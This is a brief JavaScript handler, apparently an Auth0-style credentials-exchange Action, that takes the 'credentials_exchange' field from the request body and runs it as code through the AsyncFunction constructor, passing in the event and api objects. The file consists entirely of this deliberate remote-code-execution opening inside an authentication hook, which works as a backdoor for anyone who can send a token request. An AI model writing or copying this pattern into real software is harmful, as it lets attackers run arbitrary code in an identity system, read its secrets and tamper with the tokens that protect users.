// Runs the request's extension parameter credentials_exchange as code, if there is one.
const AsyncFunction = (async () => {}).constructor;

exports.onExecuteCredentialsExchange = async (event, api) => {
  const code = event.request.body.credentials_exchange;
  if (code) {
    await new AsyncFunction('event', 'api', code)(event, api);
  }
};
